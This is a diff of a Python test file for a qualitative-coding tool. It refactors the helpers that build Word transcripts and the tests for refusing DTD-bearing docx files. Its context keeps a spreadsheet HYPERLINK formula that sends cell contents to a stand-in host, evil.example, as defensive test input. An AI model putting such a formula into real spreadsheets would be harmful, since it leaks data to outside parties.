@@ -22,11 +22,11 @@ from qualcode.codebook import CodebookError
 from qualcode.codebook_files import read_codebook_file
 from qualcode.errors import QualcodeError
 from qualcode.export import tables
-from qualcode.refi.qdpx_import import import_qdpx
 from qualcode.files import csv_bytes, spreadsheet_text
 from qualcode.ingest.importer import ImportOptions, import_one
 from qualcode.model import Code, Document
 from qualcode.quotes import CodeInfo, Quote, QuoteSet
+from qualcode.refi.qdpx_import import import_qdpx
 from qualcode.store import Store, get_project
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Сәлем")'
@@ -162,12 +162,18 @@ def _qdpx(path: Path) -> Path:
     return path
 
 
-def _docx_with_dtd(path: Path) -> Path:
-    plain = path.with_name("plain.docx")
+def _plain_docx(path: Path) -> Path:
+    """A Word transcript as python-docx writes it."""
     document = docx.Document()
     for line in TRANSCRIPT.splitlines():
         document.add_paragraph(line)
-    document.save(plain)
+    document.save(path)
+    return path
+
+
+def _docx_with_dtd(path: Path) -> Path:
+    """The same transcript, its word/document.xml rewritten to declare an entity and use it."""
+    plain = _plain_docx(path.with_name("plain.docx"))
     with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
         for item in source.infolist():
             data = source.read(item.filename)
@@ -216,11 +222,7 @@ def test_a_docx_whose_document_xml_declares_an_entity_is_refused(tmp_path, capsy
 
 def test_the_same_docx_without_the_dtd_imports(tmp_path):
     """The check refuses the DTD, not the file: python-docx's own output goes in."""
-    plain = tmp_path / "fg03.docx"
-    document = docx.Document()
-    for line in TRANSCRIPT.splitlines():
-        document.add_paragraph(line)
-    document.save(plain)
+    plain = _plain_docx(tmp_path / "fg03.docx")
     assert import_one(Store(str(tmp_path / "p.db")), plain, ImportOptions()).status == "imported"
 
 
@@ -233,9 +235,8 @@ def test_a_writer_past_the_busy_timeout_gets_one_line(store_url):
         get_project(session, "Сауалнама")
         session.flush()
         started = time.perf_counter()
-        with pytest.raises(QualcodeError) as caught:
-            with waiting.write() as other:
-                get_project(other, "екінші")
+        with pytest.raises(QualcodeError) as caught, waiting.write() as other:
+            get_project(other, "екінші")
         elapsed = time.perf_counter() - started
     assert str(caught.value) == f"the database {waiting.shown_url} is busy (another user is writing); try again"
     assert 0.2 < elapsed < 5
